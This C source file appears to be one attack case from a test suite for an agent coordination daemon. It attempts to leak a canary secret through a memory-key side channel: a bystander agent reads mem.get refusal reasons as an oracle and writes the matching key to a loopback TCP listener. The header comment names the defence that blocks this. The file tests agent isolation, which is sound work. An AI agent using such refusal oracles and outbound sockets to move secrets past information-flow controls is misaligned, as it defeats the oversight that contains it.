// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* mem_key_miss - a memory key as the way out, probed by another agent that never gets an object:
 * the tainted coordinator stores a wide object (memory allowed) under slot/<canary>. The
 * bystander, untainted and not the object's recipient, probes 16 candidate keys with mem.get:
 * mncd refuses every one of them, but a key that exists is refused for `recipient` and one that
 * does not for `no_object` - a lookup is an oracle whether it delivers or not. The bystander
 * sends the candidate that was refused for `recipient` to a TCP listener on 127.0.0.1.
 * Verifier: the orchestrator's listener.
 * What blocks it: every mem.get in the store, hit or miss, delivered or refused, first gives
 * the reader the store's key label (docs/protocol.md, "Identifiers an agent chooses"): the
 * bystander then holds what the writer held (no sinks), and its connect is refused. */
#include <arpa/inet.h>
#include <netinet/in.h>

#include "atk.h"
#include "atk_variants.h"

static int prepare(struct atk_ctx *c)
{
    char wval[32];
    atk_mkcanary(wval, sizeof(wval));
    return atk_disclose(c, "wide_scope", wval);
}

static int probe(struct atk_ctx *c)
{
    char cands[1024], resp[8192];
    snprintf(cands, sizeof(cands), "%s", atk_arg(c, "cands") ? atk_arg(c, "cands") : "");
    int port = (int)atk_argl(c, "lport"), misses = 0;
    for (char *k = strtok(cands, ","); k; k = strtok(NULL, ",")) {
        char req[512];
        snprintf(req, sizeof(req), "{\"verb\":\"mem.get\",\"key\":\"slot/%s\",\"purpose\":\"wide_scope\"}", k);
        if (atkv_req(c, req, resp, sizeof(resp)) < 0)
            continue;
        if (strstr(resp, "\"reason\":\"no_object\"")) {
            misses++;
            continue;
        }
        atk_note(c, "probe: %.80s", strstr(resp, "\"reason\"") ? strstr(resp, "\"reason\"") : resp);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {
            .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        if (s >= 0 && atk_try(c, "probe: connect out", connect(s, (struct sockaddr *)&a, sizeof(a))) == 0)
            atk_try(c, "probe: send the candidate", write(s, k, strlen(k)));
        if (s >= 0)
            close(s);
    }
    atk_note(c, "probe: %d misses", misses);
    return 0;
}

static int agent(struct atk_ctx *c)
{
    if (c->phase == 2)
        return probe(c);
    char wide[40], req[512], resp[8192];
    if (atkv_recv_contract(c, "wide_scope", wide, sizeof(wide)) < 0) {
        atk_note(c, "no wide_scope object");
        return 0;
    }
    snprintf(req, sizeof(req), "{\"verb\":\"mem.put\",\"key\":\"slot/%s\",\"object\":\"%s\"}", c->secret, wide);
    atk_note(c, "mem.put slot/<canary>: %s",
             atkv_req(c, req, resp, sizeof(resp)) == 0 && strstr(resp, "\"ok\":true") ? "OK" : resp);
    return 0;
}

static void verify(struct atk_ctx *c)
{
    int port;
    int l = atkv_listen_tcp(&port);
    if (l < 0)
        return;
    char cands[1024], ca[1100], pa[32], got[4096];
    atkv_candidates(c, cands, sizeof(cands));
    snprintf(ca, sizeof(ca), "cands=%s", cands);
    snprintf(pa, sizeof(pa), "lport=%d", port);
    const char *const extra[] = {ca, pa, NULL};
    atkv_run_fresh(c, "bystander", "ws-bystander-probe", extra, 30);
    atkv_accept_read(l, 500, got, sizeof(got));
    close(l);
    if (strstr(got, c->canary))
        atk_evidence(c, "the bystander told hits from misses by mem.get's refusal and sent the key out");
}

static const struct atk A = {"mem_key_miss",
                             "a memory key named after the canary, probed by another agent through refusals",
                             ATK_NO_RECV | ATK_NO_CONTROL,
                             prepare,
                             agent,
                             NULL,
                             verify,
                             NULL};
ATK_MAIN(A)
